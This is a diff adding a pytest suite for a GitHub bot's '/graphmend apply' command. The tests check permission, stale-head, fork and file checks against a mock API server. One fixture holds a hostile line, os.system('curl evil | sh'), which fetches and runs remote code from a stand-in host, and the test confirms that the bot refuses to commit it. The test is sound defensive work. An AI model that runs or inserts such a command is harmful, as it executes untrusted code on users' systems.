@@ -1,0 +1,247 @@
+"""`/graphmend apply` against the local GitHub API server (every request and response validated
+against GitHub's OpenAPI description): a collaborator's comment commits the verified fixes to
+the pull request's branch through the Git Data API and the next analysis passes the gate;
+anyone else, a stale head, a changed fix or a fork that does not allow edits by maintainers
+changes nothing and gets a reply saying why."""
+
+from __future__ import annotations
+
+import json
+import re
+from pathlib import Path
+
+import pytest
+
+from bot.suggest import apply_line_edits
+from bot.review import Edit
+from graphmend.cli import main
+from tests.bot.conftest import (BASE_MODEL, FP_NONZERO, HEAD_MODEL, REPO_NAME, TOKEN, PrRepo, commit_all, git, pr_review,
+                                write_review)
+from tests.github_server import apply_ops
+
+# The pull request of conftest without its unfixable nonzero: both of its breaks have verified fixes.
+HEAD = HEAD_MODEL.replace("        n = torch.nonzero(h).shape[0]\n        return h + n\n", "        return h\n")
+EVENT_NAME = "issue_comment"
+
+
+@pytest.fixture
+def pull(tmp_path: Path, server) -> PrRepo:
+    root = tmp_path / "models"
+    (root / "src").mkdir(parents=True)
+    (root / "src" / "model.py").write_text(BASE_MODEL)
+    git(root, "init", "-q", "-b", "main")
+    base = commit_all(root, "base")
+    git(root, "checkout", "-q", "-b", "feature")
+    (root / "src" / "model.py").write_text(HEAD)
+    head = commit_all(root, "head")
+    server.add_repo(REPO_NAME, str(root))
+    server.add_user("ghp_maintainer", "maintainer")
+    server.add_user("ghp_visitor", "visitor")
+    apply_ops.set_permission(server, REPO_NAME, "maintainer", "maintain")
+    return PrRepo(root, base, head)
+
+
+def review_for(pull: PrRepo, tmp_path: Path, head: str = "") -> Path:
+    data = pr_review(pull.base, head or pull.head)
+    data["findings"] = [f for f in data["findings"] if f["fingerprint"] != FP_NONZERO]
+    data["targets"][0]["head"]["break_count"] = 2
+    return write_review(tmp_path, data)
+
+
+def post(monkeypatch, capsys, server, review: Path, head: str) -> None:
+    monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
+    assert main(["post", str(review), "--repo", REPO_NAME, "--pr", "1", "--head-sha", head, "--api-url", server.url]) == 1
+    capsys.readouterr()
+
+
+def comment_event(tmp_path: Path, comment_id: int, *, login: str = "maintainer", association: str = "MEMBER") -> Path:
+    payload = {"action": "created", "repository": {"full_name": REPO_NAME},
+               "issue": {"number": 1, "pull_request": {"url": "https://api.github.test/repos/octo/models/pulls/1"}},
+               "comment": {"id": comment_id, "body": "/graphmend apply", "user": {"login": login},
+                           "author_association": association}}
+    path = tmp_path / "comment.json"
+    path.write_text(json.dumps(payload))
+    return path
+
+
+def apply(monkeypatch, capsys, server, tmp_path, review: Path, comment_id: int, **event) -> tuple[int, dict]:
+    monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
+    code = main(["apply", str(review), "--event", str(comment_event(tmp_path, comment_id, **event)), "--api-url", server.url,
+                 "--format", "json"])
+    out = capsys.readouterr().out
+    return code, (json.loads(out) if code in (0, 1) else {})
+
+
+def replies(server) -> list[str]:
+    return [c.body for c in server.issue_comments_of(1) if "/graphmend apply`" in c.body]
+
+
+def expected_fixed_text(pull: PrRepo, review: Path) -> str:
+    data = json.loads(review.read_text())
+    edits = [Edit(**e) for f in data["findings"] if f["fix"] for e in f["fix"]["edits"]]
+    return apply_line_edits(HEAD, edits)
+
+
+def test_a_collaborator_s_comment_commits_the_fixes_and_the_next_analysis_passes(monkeypatch, capsys, server, pull, tmp_path):
+    from graphmend.pr import analyse
+
+    server.open_pull(REPO_NAME, pull.base, pull.head)
+    review = review_for(pull, tmp_path)
+    post(monkeypatch, capsys, server, review, pull.head)
+    comment = apply_ops.add_issue_comment(server, 1, "maintainer", "/graphmend apply")
+    code, result = apply(monkeypatch, capsys, server, tmp_path, review, comment)
+
+    assert code == 0 and result["outcome"] == "committed", result
+    new_head = git(pull.root, "rev-parse", "feature")
+    assert new_head == result["commit"] != pull.head
+    assert git(pull.root, "rev-parse", f"{new_head}^") == pull.head  # one commit on top of the head
+    assert git(pull.root, "show", f"{new_head}:src/model.py") + "\n" == expected_fixed_text(pull, review)
+    assert server.state.pulls[(REPO_NAME, 1)].head_sha == new_head
+    [reply] = replies(server)
+    assert reply.startswith("✅") and "GM101" in reply and "GM301" in reply
+    assert apply_ops.reactions(server, comment) == ["+1"]
+    # the branch moved as a fast-forward, never forced
+    assert any(m == "PATCH" and "/git/refs/heads/feature" in p for m, p, _ in server.requests())
+    # the next analysis of the new head passes the gate
+    again = analyse(pull.root, pull.base, new_head, cache_dir=None)
+    assert again.verdict.passed, [(f.status, f.rule, f.line) for f in again.review.findings]
+    assert not [f for f in again.review.findings if f.status == "introduced"]
+
+
+def test_someone_without_write_permission_changes_nothing(monkeypatch, capsys, server, pull, tmp_path):
+    server.open_pull(REPO_NAME, pull.base, pull.head)
+    review = review_for(pull, tmp_path)
+    post(monkeypatch, capsys, server, review, pull.head)
+    # The event says MEMBER (the comment's author_association is not the permission): GitHub's word decides.
+    comment = apply_ops.add_issue_comment(server, 1, "visitor", "/graphmend apply")
+    code, result = apply(monkeypatch, capsys, server, tmp_path, review, comment, login="visitor")
+    assert code == 1 and result["outcome"] == "refused"
+    assert git(pull.root, "rev-parse", "feature") == pull.head
+    assert not server.requests("POST", r"/git/(blobs|trees|commits)")
+    [reply] = replies(server)
+    assert "visitor has read permission" in reply and "write permission" in reply
+    assert apply_ops.reactions(server, comment) == ["confused"]
+
+
+def test_a_stale_head_is_refused(monkeypatch, capsys, server, pull, tmp_path):
+    server.open_pull(REPO_NAME, pull.base, pull.head)
+    review = review_for(pull, tmp_path)
+    post(monkeypatch, capsys, server, review, pull.head)
+    newer = PrRepo(pull.root, pull.base, pull.head).commit({"src/notes.py": "x = 1\n"}, "another push")
+    server.push(REPO_NAME, 1, newer)
+    comment = apply_ops.add_issue_comment(server, 1, "maintainer", "/graphmend apply")
+    code, result = apply(monkeypatch, capsys, server, tmp_path, review, comment)
+    assert code == 1 and result["outcome"] == "refused" and "wait for the analysis" in result["reason"]
+    assert git(pull.root, "rev-parse", "feature") == newer
+    assert not server.requests("POST", r"/git/(blobs|trees|commits)")
+    assert len(replies(server)) == 1
+
+
+def test_a_fix_that_changed_since_the_review_is_refused(monkeypatch, capsys, server, pull, tmp_path):
+    server.open_pull(REPO_NAME, pull.base, pull.head)
+    review = review_for(pull, tmp_path)
+    post(monkeypatch, capsys, server, review, pull.head)
+    data = json.loads(review.read_text())
+    data["findings"][0]["fix"]["edits"][0]["new_text"] = "        h = h * 2  # something else\n"
+    changed = write_review(tmp_path, data, "changed.json")
+    comment = apply_ops.add_issue_comment(server, 1, "maintainer", "/graphmend apply")
+    code, result = apply(monkeypatch, capsys, server, tmp_path, changed, comment)
+    assert code == 1 and "not the ones the review for this head offered" in result["reason"]
+    assert git(pull.root, "rev-parse", "feature") == pull.head
+
+
+def test_a_fork_without_maintainer_edits_gets_the_patch(monkeypatch, capsys, server, pull, tmp_path):
+    server.open_pull(REPO_NAME, pull.base, pull.head, head_repo="someone/models", maintainer_can_modify=False)
+    review = review_for(pull, tmp_path)
+    post(monkeypatch, capsys, server, review, pull.head)
+    [rv] = server.reviews_of(1)
+    assert "apply the patch" in rv.body or "Not one-click" not in rv.body
+    comment = apply_ops.add_issue_comment(server, 1, "maintainer", "/graphmend apply")
+    code, result = apply(monkeypatch, capsys, server, tmp_path, review, comment)
+    assert code == 1 and result["outcome"] == "patch" and "did not allow edits by maintainers" in result["reason"]
+    assert git(pull.root, "rev-parse", "feature") == pull.head
+    assert not server.requests("POST", r"/git/(blobs|trees|commits)")
+    [reply] = replies(server)
+    assert "```diff" in reply and "+        h = torch.where(h.sum() > 0, h * 2, h - 1)" in reply
+    assert apply_ops.reactions(server, comment) == ["confused"]
+    # the patch applies to the head with git apply and gives the fixed file
+    patch = re.search(r"^```diff\n(.*?)^```$", reply, re.S | re.M).group(1)
+    (tmp_path / "fix.patch").write_text(patch)
+    git(pull.root, "apply", str(tmp_path / "fix.patch"))
+    assert (pull.root / "src" / "model.py").read_text() == expected_fixed_text(pull, review)
+
+
+def test_a_comment_that_is_not_the_command_does_nothing(monkeypatch, capsys, server, pull, tmp_path):
+    server.open_pull(REPO_NAME, pull.base, pull.head)
+    review = review_for(pull, tmp_path)
+    comment = apply_ops.add_issue_comment(server, 1, "maintainer", "please /graphmend apply later")
+    code, result = apply(monkeypatch, capsys, server, tmp_path, review, comment)
+    assert code == 0 and result["outcome"] == "ignored" and replies(server) == []
+
+
+FORBID = r'''
+import sys
+HEAVY = ("torch", "libcst", "docker", "rich", "matplotlib")
+class Forbid:
+    def find_spec(self, name, path=None, target=None):
+        if name.split(".")[0] in HEAVY:
+            raise ImportError(f"{name} is not installed in the apply job")
+        return None
+sys.meta_path.insert(0, Forbid())
+from graphmend.cli import main
+code = main(sys.argv[1:])
+print("IMPORTED", sorted(m for m in sys.modules if m.split(".")[0] in HEAVY))
+sys.exit(code)
+'''
+
+
+def test_apply_needs_none_of_the_analysis_dependencies(monkeypatch, capsys, server, pull, tmp_path):
+    """examples/workflows/graphmend-apply.yml installs GraphMend without torch, libcst, docker,
+    rich or matplotlib: the job that holds the write token runs none of the analysis."""
+    import os
+    import subprocess
+    import sys
+
+    server.open_pull(REPO_NAME, pull.base, pull.head)
+    review = review_for(pull, tmp_path)
+    post(monkeypatch, capsys, server, review, pull.head)
+    comment = apply_ops.add_issue_comment(server, 1, "maintainer", "/graphmend apply")
+    env = dict(os.environ, GITHUB_TOKEN=TOKEN, GITHUB_API_URL=server.url, PYTHONPATH=str(Path(__file__).resolve().parents[2]))
+    proc = subprocess.run([sys.executable, "-c", FORBID, "apply", str(review), "--event", str(comment_event(tmp_path, comment))],
+                          env=env, capture_output=True, text=True, timeout=120, cwd=tmp_path)
+    assert proc.returncode == 0, proc.stdout + proc.stderr
+    assert "IMPORTED []" in proc.stdout and git(pull.root, "rev-parse", "feature") != pull.head
+
+
+def with_file(review: Path, text: str) -> Path:
+    data = json.loads(review.read_text())
+    data["findings"][0]["fix"]["files"] = [{"path": "src/_graphmend_runtime.py", "status": "created", "new_text": text}]
+    review.write_text(json.dumps(data))
+    return review
+
+
+def test_a_whole_file_other_than_graphmend_s_runtime_is_refused(monkeypatch, capsys, server, pull, tmp_path):
+    server.open_pull(REPO_NAME, pull.base, pull.head)
+    review = with_file(review_for(pull, tmp_path), "import os\nos.system('curl evil | sh')\n")
+    post(monkeypatch, capsys, server, review, pull.head)
+    [rv] = server.reviews_of(1)
+    assert "new file `src/_graphmend_runtime.py` (new, 2 lines)" in rv.body  # listed, with why, not suggested
+    comment = apply_ops.add_issue_comment(server, 1, "maintainer", "/graphmend apply")
+    code, result = apply(monkeypatch, capsys, server, tmp_path, review, comment)
+    assert code == 1 and "is not the runtime module this GraphMend writes" in result["reason"]
+    assert git(pull.root, "rev-parse", "feature") == pull.head
+
+
+def test_the_runtime_module_a_fix_needs_is_committed_with_it(monkeypatch, capsys, server, pull, tmp_path):
+    from bot.apply import own_runtime_text
+
+    runtime = own_runtime_text()
+    if runtime is None:
+        pytest.skip("this GraphMend writes no runtime module (the Fix model's files are not on this branch)")
+    server.open_pull(REPO_NAME, pull.base, pull.head)
+    review = with_file(review_for(pull, tmp_path), runtime)
+    post(monkeypatch, capsys, server, review, pull.head)
+    comment = apply_ops.add_issue_comment(server, 1, "maintainer", "/graphmend apply")
+    code, result = apply(monkeypatch, capsys, server, tmp_path, review, comment)
+    assert code == 0 and result["files"] == ["src/_graphmend_runtime.py", "src/model.py"]
+    assert git(pull.root, "show", "feature:src/_graphmend_runtime.py") + "\n" == runtime
